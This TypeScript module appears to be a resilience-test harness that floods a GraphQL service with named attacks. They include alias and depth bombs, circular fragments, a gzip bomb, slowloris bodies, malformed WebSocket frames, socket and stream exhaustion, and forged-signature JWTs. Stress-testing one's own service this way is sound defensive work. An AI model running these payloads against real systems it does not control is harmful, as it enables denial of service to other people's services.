import { once } from 'node:events';
import { type IncomingMessage, request } from 'node:http';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';

import { WebSocket } from 'ws';

import { ownRoom, PRICED_ATTACKS } from './attacks-priced.ts';

/** Attacks on the service. Each goes on until it is told to stop. */

export interface AttackersSetting {
  readonly url: string;
  /** Token of the attacker's account. Each attack has another one, whose points are not used up. */
  readonly token: string;
  /** Client address of the attacker's requests, as a proxy would report it. */
  readonly address: string;
  /** Tokens of accounts that may read much. */
  readonly accomplices: readonly string[];
}

interface Attempt {
  readonly body: Buffer;
  readonly encoding?: string;
  /** Whether it is sent without a token. Default: no. */
  readonly anonymous?: boolean;
}

/** Concurrent attempts that wait for an answer. */
const ATTEMPTS = 4;
const SLOW_BODIES = 200;
/** Deaf sockets of one user. */
const DEAF = 10;
const STREAMS = 300;
const SILENT_SOCKETS = 5_000;
/** Sockets that are opened concurrently. */
const OPENING = 50;

const repeated = (count: number, text: (i: number) => string) =>
  Array.from({ length: count }, (_, i) => text(i)).join(' ');
const deep = (levels: number) => `${'{ viewer { servers { nodes '.repeat(levels)}{ id }${' } } }'.repeat(levels)}`;

const json = (query: string) => ({ body: Buffer.from(JSON.stringify({ query })) });

const REPEATED = json(`{ viewer { ${repeated(330, () => 'servers{nodes{id}}')} } }`);
const DOUBLING = json(
  `{ __schema { ...f0 } } ${repeated(40, (i) => `fragment f${i} on __Schema { ...f${i + 1} ...f${i + 1} }`)} fragment f40 on __Schema { queryType { name } }`,
);
/** An operation whose error quotes the variable. */
const QUOTED = {
  body: Buffer.from(
    JSON.stringify({
      variables: { yes: ' Did you mean '.repeat(6_900) },
      query: 'query ($yes: Boolean!) { __typename @include(if: $yes) }',
    }),
  ),
};

const STRANGE = json(`{ __schema { ${repeated(90, (i) => `a${i}: types { name }`)} } }`);

/**
 * Name -> a request that is sent repeatedly, with another comment in the document each time, so that it is never
 * cached.
 */
const REQUESTS: Readonly<Record<string, Attempt>> = {
  '10,000 aliases': json(`{ viewer { ${repeated(10_000, (i) => `a${i}:id`)} } }`),
  'a thousand levels': json(deep(1_000)),
  'fragments in a circle': json('{ viewer { ...a } } fragment a on Viewer { ...b } fragment b on Viewer { ...a }'),
  '100 x 100 x 100': json(
    '{ viewer { servers(first: 100) { nodes { rooms(first: 100) { nodes { messages(first: 100) { nodes { id } } } } } } } }',
  ),
  'one field many times': json(`{ viewer { ${repeated(3_900, () => 'id')} } }`),
  'one list 330 times': REPEATED,
  'one list 330 times, without a token': { ...REPEATED, anonymous: true },
  'fragments that double, without a token': { ...DOUBLING, anonymous: true },
  'a refusal that quotes 97 kB, without a token': { ...QUOTED, anonymous: true },
  'a query of 1 MB': json(`{ viewer { id } } #${'x'.repeat(1_000_000)}`),
  'a gzip bomb': { body: gzipSync(Buffer.alloc(50_000_000, ' ')), encoding: 'gzip' },
};

/** Name -> an attack over connections. */
const CONNECTIONS: Readonly<
  Record<string, (setting: AttackersSetting, stop: AbortSignal, end: (how: string) => void) => Promise<void>>
> = {
  'slow bodies': slowBodies,
  'malformed frames': malformedFrames,
  'sockets that say nothing': silentSockets,
  'subscribers that never read': deafSubscribers,
  'streams that nobody reads': unreadStreams,
  'requests without a token': anonymousRequests,
  ...PRICED_ATTACKS,
};

export const ATTACKS: readonly string[] = [...Object.keys(REQUESTS), ...Object.keys(CONNECTIONS)];

/** @param end Called with the outcome of each request or connection. */
export async function attack(
  name: string,
  setting: AttackersSetting,
  signal: AbortSignal,
  end: (how: string) => void,
): Promise<void> {
  const one = REQUESTS[name];
  if (!one) return await CONNECTIONS[name]!(setting, signal, end);
  await Promise.all(
    Array.from({ length: ATTEMPTS }, async () => {
      while (!signal.aborted) end(await send(anew(one), setting, signal));
    }),
  );
}

let number = 0;
/** End of each body: the end of the document, and of the object. */
const END = '"}'.length;

/** The same request with another comment at the end of its document. Bytes are copied and not parsed, to be cheap. */
function anew(one: Attempt): Attempt {
  if (one.encoding) return one;
  const body = one.body.subarray(0, -END);
  return { ...one, body: Buffer.concat([body, Buffer.from(`\\n#${number++}"}`)]) };
}

/** @returns The status, or another outcome. */
async function send(
  { body, encoding, anonymous = false }: Attempt,
  setting: AttackersSetting,
  signal: AbortSignal,
): Promise<string> {
  const sent = request(`${setting.url}/graphql`, {
    method: 'POST',
    headers: {
      ...(setting.token && !anonymous && { authorization: `Bearer ${setting.token}` }),
      'content-type': 'application/json',
      'content-length': body.length,
      'x-forwarded-for': setting.address,
      ...(encoding && { 'content-encoding': encoding }),
    },
    signal,
  });
  // A request that is refused early is disconnected while it sends.
  sent.on('error', () => {});
  sent.end(body);
  try {
    const [response] = (await once(sent, 'response', { signal })) as [IncomingMessage];
    response.resume();
    return String(response.statusCode);
  } catch {
    await sleep(5);
    return 'cut off';
  }
}

/** Requests that send a byte every 100 ms. */
async function slowBodies(
  { url, token }: AttackersSetting,
  signal: AbortSignal,
  end: (how: string) => void,
): Promise<void> {
  const head = `POST /graphql HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${token}\r\ncontent-type: application/json\r\ncontent-length: 50000\r\n\r\n`;
  await Promise.all(
    Array.from({ length: SLOW_BODIES }, async () => {
      while (!signal.aborted) {
        const socket = open(url);
        socket.write(head);
        const closed = once(socket, 'close').then(() => true);
        while (!signal.aborted && !(await Promise.race([closed, sleep(100).then(() => false)]))) socket.write(' ');
        if (socket.destroyed) end('cut off');
        socket.destroy();
      }
    }),
  );
}

/** Frames that violate RFC 6455, over correctly opened connections. */
async function malformedFrames(
  { url }: AttackersSetting,
  signal: AbortSignal,
  end: (how: string) => void,
): Promise<void> {
  const upgrade = `GET /graphql HTTP/1.1\r\nhost: x\r\nupgrade: websocket\r\nconnection: upgrade\r\nsec-websocket-version: 13\r\nsec-websocket-key: MDEyMzQ1Njc4OWFiY2RlZg==\r\nsec-websocket-protocol: graphql-transport-ws\r\n\r\n`;
  // Not masked; reserved bits; an unknown opcode; a ping of more than 125 bytes; 2^63 bytes.
  const frames = ['8101', 'f18000000000', '8380', '89fe007e', '81ff7fffffffffffffff00000000'].map((hex) =>
    Buffer.from(hex, 'hex'),
  );
  await Promise.all(
    frames.map(async (frame) => {
      while (!signal.aborted) {
        const socket = open(url);
        const closed = once(socket, 'close');
        socket.resume();
        socket.write(upgrade);
        socket.write(Buffer.concat([frame, Buffer.alloc(200)]));
        if (await Promise.race([closed.then(() => true), sleep(5_000, false, { signal }).catch(() => false)]))
          end('cut off');
        socket.destroy();
      }
    }),
  );
}

/** Opens as many as allowed, and replaces each that ends. */
async function silentSockets(
  { url }: AttackersSetting,
  signal: AbortSignal,
  end: (how: string) => void,
): Promise<void> {
  let opened = 0;
  const address = `${url.replace('http', 'ws')}/graphql`;
  const sockets = new Set<WebSocket>();
  while (!signal.aborted) {
    const missing = Math.min(OPENING, SILENT_SOCKETS - opened);
    for (let i = 0; i < missing; i++) {
      const socket = new WebSocket(address, 'graphql-transport-ws');
      sockets.add(socket);
      opened++;
      let refused = '';
      socket.on('unexpected-response', (_request, { statusCode }) => {
        refused = String(statusCode);
        socket.terminate();
      });
      socket.on('error', () => {});
      socket.once('close', (code) => {
        opened--;
        sockets.delete(socket);
        if (!signal.aborted) end(refused || String(code));
      });
    }
    await sleep(20);
  }
  for (const socket of sockets) socket.terminate();
}

/**
 * WebSockets that subscribe to a room and read nothing, while somebody writes there as much as is allowed. Each socket
 * that is disconnected is replaced.
 */
async function deafSubscribers(
  setting: AttackersSetting,
  signal: AbortSignal,
  end: (how: string) => void,
): Promise<void> {
  const { url, token } = setting;
  const roomId = await ownRoom(setting);
  const address = `${url.replace('http', 'ws')}/graphql`;
  const query = `subscription { channelEvents(channel: { roomId: "${roomId}" }) { ... on MessageCreatedEvent { message { content } } } }`;
  const deaf = Array.from({ length: DEAF }, async (_, no) => {
    // Opening many connections at once is another attack.
    await sleep(50 * no);
    while (!signal.aborted) {
      const socket = new WebSocket(address, 'graphql-transport-ws');
      const closed = new Promise<string>((resolve) => {
        socket.once('close', (code) => resolve(String(code)));
        socket.once('unexpected-response', (_request, { statusCode }) => resolve(String(statusCode)));
        socket.on('error', () => resolve('cut off'));
      });
      socket.once('open', () =>
        socket.send(JSON.stringify({ type: 'connection_init', payload: { authorization: `Bearer ${token}` } })),
      );
      // Nothing is read after the acknowledgement.
      socket.once('message', () => {
        socket.send(JSON.stringify({ id: '1', type: 'subscribe', payload: { query } }));
        socket.pause();
      });
      const stopped = new Promise<string>((resolve) => signal.addEventListener('abort', () => resolve('')));
      const how = await Promise.race([closed, stopped]);
      if (how) end(how);
      socket.terminate();
      await sleep(1_000);
    }
  });
  const content = 'x'.repeat(4_000);
  const writes = Array.from({ length: 2 }, async () => {
    while (!signal.aborted) {
      await sleep(50);
      const { body } = json(
        `mutation { createMessage(input: { channel: { roomId: "${roomId}" }, content: "${content}" }) { seq } }`,
      );
      end(await send({ body }, setting, signal));
    }
  });
  await Promise.all([...deaf, ...writes]);
}

/** Unread subscriptions over SSE, as many as allowed. Each that ends is replaced. */
async function unreadStreams(
  { url, token }: AttackersSetting,
  signal: AbortSignal,
  end: (how: string) => void,
): Promise<void> {
  const body = JSON.stringify({ query: 'subscription { viewerEvents { __typename } }' });
  const text = `POST /graphql HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${token}\r\naccept: text/event-stream\r\ncontent-type: application/json\r\ncontent-length: ${body.length}\r\n\r\n${body}`;
  await Promise.all(
    Array.from({ length: STREAMS }, async (_, no) => {
      await sleep((1_000 / STREAMS) * no);
      while (!signal.aborted) {
        const socket = open(url).pause();
        const closed = once(socket, 'close').then(() => true);
        socket.write(text);
        if (await Promise.race([closed, sleep(1_000, false, { signal }).catch(() => false)])) end('cut off');
        else end('left');
        socket.destroy();
      }
    }),
  );
}

/** Requests with unsigned tokens, and without tokens. */
async function anonymousRequests(
  setting: AttackersSetting,
  signal: AbortSignal,
  end: (how: string) => void,
): Promise<void> {
  const own = setting.token.split('.');
  const forged = `${own[0]}.${own[1]}.${'A'.repeat(own[2]!.length)}`;
  await Promise.all(
    Array.from({ length: ATTEMPTS }, async (_, no) => {
      const token = no % 2 === 0 ? forged : '';
      while (!signal.aborted) end(await send(anew(STRANGE), { ...setting, token }, signal));
    }),
  );
}

function open(url: string): Socket {
  const { hostname, port } = new URL(url);
  const socket = connect({ host: hostname, port: Number(port) });
  socket.on('error', () => socket.destroy());
  return socket;
}
